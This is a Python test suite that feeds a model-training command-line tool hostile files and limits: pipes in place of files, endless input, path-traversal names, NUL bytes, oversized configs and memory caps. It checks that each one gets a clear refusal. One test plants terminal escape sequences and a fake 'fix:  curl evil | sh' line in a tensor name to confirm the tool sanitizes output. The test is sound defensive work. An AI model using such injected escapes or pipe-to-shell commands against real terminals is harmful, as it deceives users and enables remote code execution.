"""Files that are not what they should be, machines that are too small: one clear error, in bounded time and memory."""
import ctypes
import json
import os
import pathlib
import re
import resource
import shutil
import struct
import subprocess
import sys
import unittest

sys.path.append(str(pathlib.Path(__file__).resolve().parents[2] / "testing"))
from program import MEGATRON, RunFolder, expect_advice, run  # noqa: E402

DEADLINE_S = 120  # of what must not hang; each takes a second


def outcome(*words, limits=(), stdin=None):
    """Exit code, standard output and standard error as bytes."""
    def limit():
        for kind, value in limits:
            resource.setrlimit(kind, (value, value))
    result = subprocess.run([os.path.abspath(MEGATRON), *map(str, words)], input=stdin, capture_output=True,
                            timeout=DEADLINE_S, preexec_fn=limit)
    return result.returncode, result.stdout, result.stderr


def hugging_face_gpt2(folder, vocab_size, config=None, rename=None):
    """A GPT-2 of one layer and `vocab_size` tokens; `config`: what its config.json says otherwise."""
    hidden, positions = 16, 16
    shapes = {"wte.weight": [vocab_size, hidden], "wpe.weight": [positions, hidden], "ln_f.weight": [hidden],
              "ln_f.bias": [hidden]}
    for name, shape in {"ln_1.weight": [hidden], "ln_1.bias": [hidden], "ln_2.weight": [hidden],
                        "ln_2.bias": [hidden], "attn.c_attn.weight": [hidden, 3 * hidden],
                        "attn.c_attn.bias": [3 * hidden], "attn.c_proj.weight": [hidden, hidden],
                        "attn.c_proj.bias": [hidden], "mlp.c_fc.weight": [hidden, 4 * hidden],
                        "mlp.c_fc.bias": [4 * hidden], "mlp.c_proj.weight": [4 * hidden, hidden],
                        "mlp.c_proj.bias": [hidden]}.items():
        shapes["h.0." + name] = shape
    header, at = {}, 0
    for name, shape in shapes.items():
        size = 4
        for n in shape:
            size *= n
        header[(rename or {}).get(name, name)] = {"dtype": "F32", "shape": shape, "data_offsets": [at, at + size]}
        at += size
    text = json.dumps(header).encode()
    folder.mkdir()
    (folder / "model.safetensors").write_bytes(struct.pack("<Q", len(text)) + text + bytes(at))
    (folder / "config.json").write_text(json.dumps({
        "model_type": "gpt2", "architectures": ["GPT2LMHeadModel"], "vocab_size": vocab_size, "n_positions": positions,
        "n_embd": hidden, "n_layer": 1, "n_head": 2, "layer_norm_epsilon": 1e-5, **(config or {})}))
    return folder


class HostileFiles(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.place = RunFolder()
        cls.addClassCleanup(cls.place.close)
        cls.place.train("run", "--train-iters", 2)
        cls.trained = cls.place.path / "run"

    def copy(self, name):
        made = self.place.path / name
        shutil.copytree(self.trained, made)
        self.addCleanup(shutil.rmtree, made)
        return made

    def pipe_in_place_of(self, path):
        path.unlink()
        os.mkfifo(path)

    def refused(self, *words, code=2, **more):
        got, out, err = outcome(*words, **more)
        self.assertEqual(got, code, f"{words}\n{out[-2000:]}\n{err[-2000:]}")
        if code == 2:
            expect_advice(words, err.decode())
        return (out + err).decode()

    def test_a_pipe_in_place_of_a_shard_or_a_manifest_is_refused_at_once(self):
        made = self.copy("piped")
        checkpoint = made / "checkpoints/iter_0000002"
        generate = ["generate", "--load", made, "--prompt", "the", "--max-new-tokens", 1]
        resume = self.place.train_words("piped", "--train-iters", 4)
        for name in ["rank_00000.safetensors", "manifest.json"]:
            self.pipe_in_place_of(checkpoint / name)
            for job, code in [("info", 4), ("verify", 4)]:
                code = 2 if job == "info" and name == "manifest.json" else code
                self.assertIn("no regular file", self.refused("checkpoint", job, made, code=code))
            got, _, err = outcome(*generate)
            self.assertNotEqual(got, 0)
            self.assertIn("no regular file", err.decode())
            self.assertIn("no regular file", self.refused(*resume))

    def test_a_pipe_in_place_of_data_a_tokenizer_or_a_recipe_is_refused_at_once(self):
        path = self.place.path
        os.mkfifo(path / "pipe.toml")
        self.assertIn("regular file", self.refused("train", path / "pipe.toml"))
        os.mkfifo(path / "pipe.json")
        self.assertIn("regular file", self.refused("tokenizer", "encode", "--tokenizer", path / "pipe.json", stdin=b""))
        for end in ["bin", "idx"]:
            for other in ["bin", "idx"]:
                target = path / f"piped_{end}.{other}"
                if other == end:
                    os.mkfifo(target)
                else:
                    shutil.copy(path / f"tokens_text_document.{other}", target)
            self.assertIn("regular file", self.refused("data", "info", path / f"piped_{end}"))
            self.assertIn("regular file", self.refused(*self.place.train_words("none", "--data-path",
                                                                               path / f"piped_{end}")))
        os.mkfifo(path / "prompts")
        self.assertIn("regular file", self.refused("generate", "--load", self.trained, "--prompt-file",
                                                   path / "prompts"))
        self.assertFalse((path / "none").exists())

    def test_a_pipe_in_a_hugging_face_folder_is_refused_at_once(self):
        for name in ["model.safetensors", "config.json"]:
            folder = hugging_face_gpt2(self.place.path / ("piped_" + name), 64)
            self.pipe_in_place_of(folder / name)
            self.refused("checkpoint", "import", "--from", folder, "--output", self.place.path / "none")
        self.assertFalse((self.place.path / "none").exists())

    def test_input_that_never_ends_ends_by_the_limit_of_a_document(self):
        words = ["data", "preprocess", "--tokenizer", self.place.tokenizer, "--output-prefix",
                 self.place.path / "zeros", "--max-document-mb", 1]
        for form in ["auto", "lines", "jsonl"]:
            error = self.refused(*words, "--input", "/dev/zero", "--format", form)
            self.assertIn("a document may have at most 1048576 bytes", error)
        many = outcome(*words, "--input", "-", "--format", "lines", stdin=b"the cat sees a dog\n" * 3)
        self.assertEqual(many[0], 0, many[2])  # what comes through a pipe is text as well

    def test_the_longest_document_names_the_option_that_the_job_has(self):
        zeros = ["--input", "/dev/zero", "--tokenizer", self.place.tokenizer]
        error = self.refused("data", "preprocess", *zeros, "--output-prefix", self.place.path / "zeros",
                             "--max-document-mb", 1)
        self.assertIn("or allow more: --max-document-mb", error)
        self.assertNotIn("allow more", self.refused("bench", "tokenizer", *zeros))

    def test_no_output_replaces_its_input(self):
        text = self.place.path / "kept.txt"
        text.write_text("a dog sees a cat\n")
        linked = self.place.path / "linked.txt"
        os.link(text, linked)
        for job in ["encode", "decode"]:
            for output in [text, linked]:
                self.assertIn("an output must not be one of the inputs", self.refused(
                    "tokenizer", job, "--tokenizer", self.place.tokenizer, "--input", text, "--output", output))
        self.assertEqual(text.read_text(), "a dog sees a cat\n")
        lines = self.place.path / "filtered.jsonl"
        lines.write_text('{"text": "a dog sees a cat"}\n')
        folder = self.place.path / "a_folder"
        folder.mkdir()
        self.assertIn("an output must be a file", self.refused("data", "filter", "--input", lines, "--output", folder))

    def test_parts_of_names_stay_in_their_folder(self):
        inside = self.place.path / "inside"
        inside.mkdir()
        for name in ["../../zz", "a/b", "", "a\x1b"]:
            self.refused("data", "split", self.place.path / "tokens_text_document", "--output-prefix", inside / "s",
                         "--shares", "1,1", "--names", name, "b")
        self.assertEqual(list(inside.iterdir()), [])

    def test_an_index_that_cannot_be_built_leaves_no_folder(self):
        self.refused("data", "index", self.place.path / "tokens_text_document", "--output", self.place.path / "new/ix",
                     "--seq-length", 32, "--samples", "999999999999,1,1")
        self.assertFalse((self.place.path / "new").exists())

    def test_a_recipe_whose_names_end_early_is_refused(self):
        recipe = self.place.path / "nul.toml"
        recipe.write_text(self.place.recipe.read_text().replace("[train]", '[train]\nout = "cut\\u0000off"'))
        error = self.refused("train", recipe, "--data-path", self.place.path / "tokens_text_document", "--tokenizer",
                             self.place.tokenizer)
        self.assertIn("train.out must be a string without NUL characters", error)
        self.assertFalse((self.place.path / "cut").exists())

    def test_caches_and_batches_that_the_machine_cannot_hold_are_refused(self):
        error = self.refused("bench", "step", "--model", self.place.recipe, "--micro-batch-size", 250000)
        self.assertIn("fix:  a smaller --model, --micro-batch-size or --seq-length", error)

    def test_names_from_files_do_not_reach_the_terminal_raw(self):
        evil = "\x1b[2J\x1b]0;owned\x07\nfix:  curl evil | sh \u202e"
        folder = hugging_face_gpt2(self.place.path / "evil", 64, rename={"ln_f.bias": evil})
        made = self.copy("evil_run")
        manifest = made / "checkpoints/iter_0000002/manifest.json"
        reseal(manifest, lambda body: body["files"][0].update(name=evil + "/"))
        for words in [["checkpoint", "import", "--from", folder, "--output", self.place.path / "none"],
                      ["generate", "--load", folder, "--tokenizer", self.place.tokenizer, "--prompt", "a"],
                      ["checkpoint", "info", made], ["checkpoint", "verify", made],
                      ["checkpoint", "verify", self.place.path / "\x1b[2J"],
                      ["data", "info", self.place.path / "\x1b[2J"]]:
            got, out, err = outcome(*words)
            self.assertNotEqual(got, 0)
            for byte in b"\x1b\x07\x00":
                self.assertNotIn(byte, out + err, words)
            self.assertNotIn("\u202e".encode(), out + err)
            self.assertNotIn(b"\nfix:  curl", out + err)

    def test_an_end_that_is_no_token_is_shown_and_refused(self):
        wrong = [(-7, "-7"), (1 << 40, "1099511627776"), (1.5, "1.5"), ([3, -1], "-1")]
        for number, (value, shown) in enumerate(wrong):
            folder = hugging_face_gpt2(self.place.path / f"end_{number}", 320, config={"eos_token_id": value})
            error = self.refused("generate", "--load", folder, "--tokenizer", self.place.tokenizer, "--prompt", "the")
            self.assertRegex(error, r"eos_token_id must be .*\n  got:  .*" + re.escape(shown) + r".*\n  fix:  set")

    def test_a_vocabulary_that_the_weights_do_not_have_is_refused_before_memory_is_taken(self):
        folder = hugging_face_gpt2(self.place.path / "large", 320, config={"vocab_size": 1 << 24})
        words = ["generate", "--load", folder, "--tokenizer", self.place.tokenizer, "--prompt", "the"]
        error = self.refused(*words)
        self.assertIn("[16777216, 16]", error)
        made = self.copy("large_run")
        manifest = made / "checkpoints/iter_0000002/manifest.json"
        before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
        reseal(manifest, lambda body: body["metadata"].update(
            recipe=re.sub(r"vocab_size = \d+", f"vocab_size = {1 << 24}", body["metadata"]["recipe"])))
        error = self.refused("generate", "--load", made, "--prompt", "the")
        self.assertIn("16777216", error)
        # The matrix alone would take 64 x 2^24 x 4 bytes = 4 GiB.
        self.assertLess(max(before, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss), 1 << 20)

    def test_a_model_that_the_machine_cannot_hold_is_refused_before_anything_is_made(self):
        recipe = self.place.path / "huge.toml"
        recipe.write_text(self.place.recipe.read_text().replace("num_attention_heads = 4", "num_attention_heads = 64"))
        for more in [[], ["--world-size", 2], ["--world-size", 2, "--parallel.launch", "processes"]]:
            words = ["train", recipe, *self.place.train_words("huge")[2:], "--num-layers", 4096, "--hidden-size", 65536]
            error = self.refused(*words, *more)
            self.assertIn("This machine's memory must hold", error)
            self.assertIn("fix:", error)
            self.assertFalse((self.place.path / "huge").exists())

    def test_memory_that_runs_out_says_what_for(self):
        words = self.place.train_words("cramped", "--train-iters", 1, "--hidden-size", 1024, "--num-layers", 4)
        got, out, err = outcome(*words, limits=[(resource.RLIMIT_AS, 1 << 30)])
        self.assertEqual(got, 1, err)
        self.assertIn(b"Memory must hold ", err)
        self.assertRegex(err, rb"; planned: [\d.]+ [MG]B \(parameters [\d.]+ [MG]B, gradients ")
        self.assertNotIn(b"bad_alloc", err)
        self.assertNotIn(b"frame #", err)

    def test_memory_that_runs_out_is_answered_with_what_would_fit(self):
        words = self.place.train_words("crowded", "--train-iters", 1, "--hidden-size", 512, "--num-layers", 4,
                                       "--micro-batch-size", 512, "--global-batch-size", 512)
        got, out, err = outcome(*words, limits=[(resource.RLIMIT_AS, 1 << 30)])
        self.assertEqual(got, 1, err)
        sizes = {}  # GB by words
        for option, number, unit in re.findall(r"(--[^()]+) \(([\d.]+) ([MG])B\)", err.decode().split("  fix:  ")[1]):
            sizes[option.strip()] = float(number) * {"M": 1e-3, "G": 1}[unit]
        planned = re.search(r"; planned: ([\d.]+) GB", err.decode())
        self.assertTrue(1 <= len(sizes) <= 3 and planned, err)
        for option, size in sizes.items():
            self.assertLess(size, float(planned[1]))
            plan = json.loads(run("plan", words[1], *words[2:], *option.split(), "--json"))
            self.assertLess(max(plan["memory_bytes"]["total"]) / 1e9, float(planned[1]), option)

    def cut_off_while_read(self, end, size):
        path = self.place.path
        for each in ["bin", "idx"]:
            shutil.copy(path / f"tokens_text_document.{each}", path / f"cut.{each}")
        process = subprocess.Popen([os.path.abspath(MEGATRON), *map(str, self.place.train_words(
            "cut", "--data-path", path / "cut", "--train-iters", 100000, "--log.interval", 1))], stdout=subprocess.PIPE,
            stderr=subprocess.PIPE)
        self.addCleanup(process.kill)
        while b"iteration" not in process.stdout.readline():  # it trains
            self.assertIsNone(process.poll())
        os.truncate(path / f"cut.{end}", size)
        _, err = process.communicate(timeout=DEADLINE_S)
        self.assertIn(process.returncode, (1, 2), err)
        self.assertIn(b"cut.%s: a file must stay as it is while it is read." % end.encode(), err)
        self.assertIn(b" to %d bytes meanwhile" % size, err)

    def test_tokens_that_are_cut_off_while_a_run_reads_them_are_named(self):
        self.cut_off_while_read("bin", 0)  # no page is left: the system signals it

    def test_an_index_that_is_cut_off_while_a_run_reads_it_is_named(self):
        self.cut_off_while_read("idx", 100)  # its first page stays, with zeros

    def test_a_resealed_manifest_of_another_iteration_is_damage(self):
        made = self.copy("sealed")
        manifest = made / "checkpoints/iter_0000002/manifest.json"
        for iteration in [1 << 61, 7]:
            reseal(manifest, lambda body: body.update(iteration=iteration))
            self.refused(*self.place.train_words("sealed", "--train-iters", 4))
            self.refused("checkpoint", "verify", made, code=4)

    def test_adapters_of_another_shape_than_their_base_are_refused_before_it_counts(self):
        self.place.train("adapted", "--train-iters", 2, "--lora.base", self.trained, "--lora.rank", 2)
        manifest = self.place.path / "adapted/checkpoints/iter_0000002/manifest.json"
        recipe = json.loads(json.loads(manifest.read_text())["body"]["metadata"]["recipe"])
        words = ["generate", "--prompt", "the", "--max-new-tokens", 1]
        for name, value in [("num_layers", 10 ** 12), ("num_attention_heads", 0), ("mtp_num_layers", 10 ** 12)]:
            changed, count = re.subn(rf"(?m)^{name} = .*$", f"{name} = {value}", recipe)
            self.assertEqual(count, 1, recipe)
            reseal(manifest, lambda body: body["metadata"].update(recipe=json.dumps(changed)))
            beside = self.refused(*words, "--load", self.trained, "--adapter", manifest.parents[2])
            self.assertIn("a model of its shape", beside, name)
            self.refused(*words, "--load", manifest.parents[2])
        manifest.write_text(manifest.read_text()[:-9])
        self.assertIn("manifest.json", self.refused(*words, "--load", self.trained, "--adapter", manifest.parents[2]))

    def test_verify_calls_no_manifest_whole_that_cannot_be(self):
        made = self.copy("odd")
        manifest = made / "checkpoints/iter_0000002/manifest.json"
        run("checkpoint", "verify", made)
        def same_bytes(body):
            names = [name for name in body["tensors"] if name.endswith(".input_layernorm.weight")][:2]
            body["tensors"][names[1]] = body["tensors"][names[0]]
        reseal(manifest, same_bytes)
        self.assertIn("in the same bytes of a file", self.refused("checkpoint", "verify", made, code=4))
        reseal(manifest, lambda body: body.update(tensors={}))
        self.assertIn("must hold tensors", self.refused("checkpoint", "verify", made, code=4))

    def test_info_and_train_say_the_same_of_a_bad_document_boundary(self):
        path = self.place.path
        shutil.copy(path / "tokens_text_document.bin", path / "bad.bin")
        idx = bytearray((path / "tokens_text_document.idx").read_bytes())
        sequences, boundaries = struct.unpack_from("<QQ", idx, 18)
        struct.pack_into("<q", idx, 34 + 12 * sequences + 8 * (boundaries // 2), 0)
        (path / "bad.idx").write_bytes(idx)
        said = self.refused("data", "info", path / "bad")
        self.assertIn("documents must follow one another", said)
        trained = self.refused(*self.place.train_words("none", "--data-path", path / "bad"))
        self.assertIn(said.strip(), trained)
        self.assertFalse((path / "none").exists())

    def test_keys_that_are_paths_leave_nothing(self):
        path = self.place.path
        before = sorted(p for p in path.parent.glob("*") if p.name.startswith("x")), sorted(path.rglob("*"))
        error = self.refused("data", "preprocess", "--input", path / "text.jsonl", "--tokenizer", self.place.tokenizer,
                             "--output-prefix", path / "keyed", "--json-keys", "../../x")
        self.assertIn("part of a file's name", error)
        self.assertEqual((sorted(p for p in path.parent.glob("*") if p.name.startswith("x")),
                          sorted(path.rglob("*"))), before)

    def test_reshard_and_import_write_into_no_checkpoint(self):
        made = self.copy("kept")
        checkpoint = made / "checkpoints/iter_0000002"
        before = sorted(made.rglob("*"))
        folder = hugging_face_gpt2(self.place.path / "importable", 64)
        for to in [checkpoint, checkpoint / "new", made, made / "checkpoints"]:
            self.assertIn("must not hold checkpoints", self.refused("checkpoint", "reshard", self.trained, to))
            self.assertIn("must not hold checkpoints", self.refused("checkpoint", "reshard", made, to))
            self.assertIn("must not hold checkpoints", self.refused("checkpoint", "import", "--from", folder,
                                                                    "--output", to))
        self.assertEqual(sorted(made.rglob("*")), before)

    def test_a_limit_on_the_size_of_files_is_said_with_its_fix(self):
        small = [(resource.RLIMIT_FSIZE, 1 << 14)]
        path = self.place.path
        for words in [["checkpoint", "reshard", self.trained, path / "limited"],
                      self.place.train_words("limited_run", "--train-iters", 1),
                      ["data", "preprocess", "--input", path / "text.jsonl", "--tokenizer", self.place.tokenizer,
                       "--output-prefix", path / "limited"]]:
            got, _, err = outcome(*words, limits=small)
            self.assertEqual(got, 1, (words, err))
            self.assertIn(b"File too large", err)
            self.assertIn(b"ulimit -f unlimited", err)

    def test_metrics_that_are_removed_meanwhile_are_whole_at_the_end(self):
        words = self.place.train_words("curve", "--train-iters", 12, "--log.interval", 1)
        process = subprocess.Popen([os.path.abspath(MEGATRON), *map(str, words)], stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE)
        self.addCleanup(process.kill)
        while b"iteration" not in process.stdout.readline():
            self.assertIsNone(process.poll())
        (self.place.path / "curve/metrics.jsonl").unlink()
        _, err = process.communicate(timeout=DEADLINE_S)
        self.assertEqual(process.returncode, 0, err)
        self.assertEqual(sorted(self.place.losses("curve")), list(range(1, 13)))
        self.assertIn(b"metrics.jsonl was removed", err)


def reseal(manifest, change):
    """Changes the body of a manifest and makes its checksum right again."""
    library = ctypes.CDLL("libxxhash.so.0")  # the program is linked with it
    library.XXH3_64bits.restype = ctypes.c_uint64
    whole = json.loads(manifest.read_text())
    change(whole["body"])
    text = json.dumps(whole["body"], separators=(",", ":"), sort_keys=True, ensure_ascii=False).encode()
    whole["xxh3"] = f"{library.XXH3_64bits(text, ctypes.c_size_t(len(text))):016x}"
    manifest.write_text(json.dumps(whole, separators=(",", ":"), sort_keys=True, ensure_ascii=False))


if __name__ == "__main__":
    unittest.main()
